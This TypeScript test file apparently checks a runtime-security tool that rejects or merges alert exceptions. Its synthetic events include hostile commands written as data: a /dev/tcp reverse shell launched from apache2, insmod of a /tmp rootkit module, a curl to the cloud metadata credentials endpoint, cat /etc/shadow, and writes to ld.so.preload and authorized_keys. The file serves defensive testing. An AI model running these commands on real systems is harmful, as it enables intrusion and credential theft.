import {
  HOST,
  kernel,
  LITTLE,
  one,
  PATH,
  POD,
  process,
  PROGRAM,
  SIGN,
  type ExceptionCase,
} from './exception-case.ts'

const REJECTED: readonly ExceptionCase[] = [
  kernel('a shell of a web server that opens /dev/tcp', 'System procs network activity', 'Notice', {
    fields: {
      ...POD,
      ...process('/usr/bin/bash', 'bash -c exec 3<>/dev/tcp/198.51.100.7/4444', 'apache2'),
    },
    each: (index) => ({
      'fd.name': `10.0.0.5:4${index}000->198.51.100.${index}:4444`,
      'fd.sip': `198.51.100.${index}`,
    }),
    refusedFor: SIGN,
  }),
  kernel('a kernel module out of /tmp', 'Linux Kernel Module Injection Detected', 'Warning', {
    fields: { ...POD, ...process('/usr/sbin/insmod', 'insmod /tmp/rk.ko', 'bash') },
    refusedFor: SIGN,
  }),
  kernel('modules of any name', 'Linux Kernel Module Injection Detected', 'Warning', {
    fields: { ...POD, ...process('/usr/sbin/insmod', 'insmod', 'agent') },
    each: (index) => ({ 'proc.cmdline': `insmod /opt/agent/m${index}.ko` }),
    refusedFor: PROGRAM,
  }),
  kernel(
    'credentials of the metadata service',
    'Contact EC2 Instance Metadata Service From Container',
    'Notice',
    {
      fields: {
        ...POD,
        ...process('/usr/bin/curl', 'curl', 'sh'),
        'fd.name': '10.0.0.5:40000->169.254.169.254:80',
      },
      each: (index) => ({
        'proc.cmdline': `curl http://169.254.169.254/latest/meta-data/iam/security-credentials/r${index}`,
      }),
      refusedFor: /does whatever|sign of an attack/,
    },
  ),
  kernel('a shell of a database', 'DB program spawned process', 'Notice', {
    fields: { ...POD, ...process('/bin/sh', 'sh', 'postgres') },
    each: (index) => ({ 'proc.cmdline': `sh -c id ${index}` }),
    refusedFor: /does whatever|sign of an attack/,
  }),
  kernel('keys read by a backup agent anywhere in the fleet', 'Read ssh information', 'Error', {
    fields: {
      ...HOST,
      ...process('/opt/backup/agent', 'agent --full', 'systemd'),
      'fd.name': '/home/ann/.ssh/id_rsa',
    },
    refusedFor: PATH,
  }),
  kernel('an archive of keys anywhere in the fleet', 'Read ssh information', 'Error', {
    fields: {
      ...HOST,
      ...process('/usr/bin/tar', 'tar czf /backup/home.tgz /home', 'backup.sh'),
      'fd.name': '/home/ann/.ssh/id_rsa',
    },
    refusedFor: PATH,
  }),
  kernel(
    'sudo cat of the shadow file anywhere in the fleet',
    'Read sensitive file untrusted',
    'Warning',
    {
      fields: {
        ...HOST,
        ...process('/usr/bin/cat', 'cat /etc/shadow', 'sudo'),
        'fd.name': '/etc/shadow',
      },
      refusedFor: /holds credentials|sign of an attack/,
    },
  ),
  one('any exec of the administrator', 'Attach/Exec Pod', 'k8s_audit', 'Notice', {
    fields: {
      'ka.user.name': 'kubernetes-admin',
      'ka.target.namespace': 'shop',
      'ka.target.resource': 'pods',
      'ka.target.subresource': 'exec',
    },
    each: (index) => ({ 'ka.target.name': `web-${index}` }),
    refusedFor: /may do everything|sign of an attack/,
  }),
  one('a bucket policy for everybody', 'Put Bucket Policy', 'aws_cloudtrail', 'Warning', {
    fields: {
      'ct.user': 'deploy',
      'ct.region': 'eu-central-1',
      's3.bucket': 'site',
      'ct.request.policy':
        '{"Statement":[{"Effect":"Allow","Principal":"*","Action":"s3:GetObject","Resource":"arn:aws:s3:::site/*"}]}',
    },
    refusedFor: SIGN,
  }),
  one(
    'keys of any service account',
    'GCP IAM service account key created',
    'gcp_auditlog',
    'Notice',
    {
      fields: { 'gcp.user': 'terraform@example.org', 'gcp.projectId': 'shop' },
      refusedFor: LITTLE,
    },
  ),
  one(
    'any change of ingress rules by one user',
    'AWS EC2 Serial Console Access Enabled',
    'aws_cloudtrail',
    'Notice',
    {
      fields: { 'ct.user': 'terraform', 'ct.region': 'eu-central-1' },
      refusedFor: /./,
    },
  ),
  kernel('any command of a shell below a server', 'Run shell untrusted', 'Notice', {
    fields: { ...POD, ...process('/bin/sh', 'sh', 'nginx') },
    each: (index) => ({ 'proc.cmdline': `sh -c id ${index}` }),
    refusedFor: /does whatever|sign of an attack/,
  }),
  kernel('a program in /tmp under a known name', 'System procs network activity', 'Notice', {
    fields: {
      ...HOST,
      ...process('/tmp/kubelet', 'kubelet', 'systemd'),
      'fd.name': '10.0.0.5:40000->10.0.0.9:443',
    },
    refusedFor: /everybody may write|sign of an attack/,
  }),
  kernel('jobs of any name in cron.d', 'Schedule Cron Jobs', 'Notice', {
    fields: { ...HOST, ...process('/bin/sh', 'sh deploy.sh', 'bash') },
    each: (index) => ({ 'fd.name': `/etc/cron.d/job${index}` }),
    refusedFor: /holds credentials|sign of an attack/,
  }),
  kernel('an interpreter with any script', 'Unexpected UDP Traffic', 'Notice', {
    fields: {
      ...POD,
      ...process('/usr/bin/python3', 'python3', 'sh'),
      'fd.name': '10.0.0.5:40000->10.0.0.9:53',
    },
    each: (index) => ({ 'proc.cmdline': `python3 -c import${index}` }),
    refusedFor: /does whatever|sign of an attack/,
  }),
  kernel('a name whose file changes', 'Unexpected UDP Traffic', 'Notice', {
    fields: {
      ...HOST,
      ...process('/opt/a/worker', 'worker', 'systemd'),
      'fd.name': '10.0.0.5:40000->10.0.0.9:53',
    },
    each: (index) => ({ 'proc.exepath': `/opt/releases/20260${index}01120000/worker` }),
    refusedFor: /another each time|too little/,
  }),
  kernel('nsenter with any command', 'Change thread namespace', 'Notice', {
    fields: { ...POD, ...process('/usr/bin/nsenter', 'nsenter', 'kured') },
    each: (index) => ({ 'proc.cmdline': `nsenter -t 1 -m -- sh -c ${index}` }),
    refusedFor: /does whatever|sign of an attack/,
  }),
  kernel('a preload file', 'Write below etc', 'Error', {
    fields: {
      ...HOST,
      ...process('/opt/agent/agent', 'agent --run', 'systemd'),
      'fd.name': '/etc/ld.so.preload',
    },
    refusedFor: /holds credentials|sign of an attack/,
  }),
  kernel('keys that let somebody in', 'Adding ssh keys to authorized_keys', 'Warning', {
    fields: {
      ...HOST,
      ...process('/usr/bin/google_guest_agent', 'google_guest_agent', 'systemd'),
      'fd.name': '/home/ann/.ssh/authorized_keys',
    },
    refusedFor: /holds credentials|sign of an attack/,
  }),
  one(
    'a collaborator in any repository',
    'Add Collaborator to Repository',
    'github',
    'Informational',
    {
      fields: { 'github.user': 'release-bot', 'github.org': 'example' },
      each: (index) => ({ 'github.repo.name': `repo-${index}` }),
      refusedFor: LITTLE,
    },
  ),
  one(
    'a service account anywhere',
    'Service Account Created in Kube Namespace',
    'k8s_audit',
    'Warning',
    {
      fields: {
        'ka.user.name': 'kubernetes-admin',
        'ka.target.namespace': 'kube-system',
        'ka.target.resource': 'serviceaccounts',
      },
      each: (index) => ({ 'ka.target.name': `sa${index}` }),
      refusedFor: /./,
    },
  ),
]

const MERGED: readonly ExceptionCase[] = [
  kernel(
    'privileged containers of one image in one namespace',
    'Launch Privileged Container',
    'Informational',
    {
      fields: {
        ...POD,
        'evt.type': 'container',
        'proc.name': 'container:c0ffee123456',
        'proc.cmdline': 'container:c0ffee123456',
        'container.image.repository': 'quay.io/example/csi-driver',
        'k8s.ns.name': 'storage',
      },
      by: ['container.image.repository', 'k8s.ns.name'],
    },
  ),
  kernel(
    'an operator that asks the API server',
    'Contact K8S API Server From Container',
    'Notice',
    {
      fields: {
        ...POD,
        ...process(
          '/usr/local/bin/argocd-application-controller',
          'argocd-application-controller',
          'tini',
        ),
        'fd.name': '10.0.0.5:40000->10.96.0.1:443',
      },
      by: ['container.image.repository', 'k8s.ns.name', 'proc.exepath'],
    },
  ),
  kernel('a backup that reads the shadow file', 'Read sensitive file untrusted', 'Warning', {
    fields: {
      ...POD,
      ...process('/usr/bin/veeamagent', 'veeamagent --full', 'veeamservice'),
      'fd.name': '/etc/shadow',
    },
    by: ['container.image.repository', 'k8s.ns.name', 'proc.exepath', 'proc.pname', 'fd.name'],
  }),
  one(
    'a collaborator in one repository',
    'Add Collaborator to Repository',
    'github',
    'Informational',
    {
      fields: {
        'github.user': 'release-bot',
        'github.org': 'example',
        'github.repo.name': 'infra',
      },
      by: ['github.user', 'github.repo.name'],
    },
  ),
]

export const CASES: readonly ExceptionCase[] = [...REJECTED, ...MERGED]
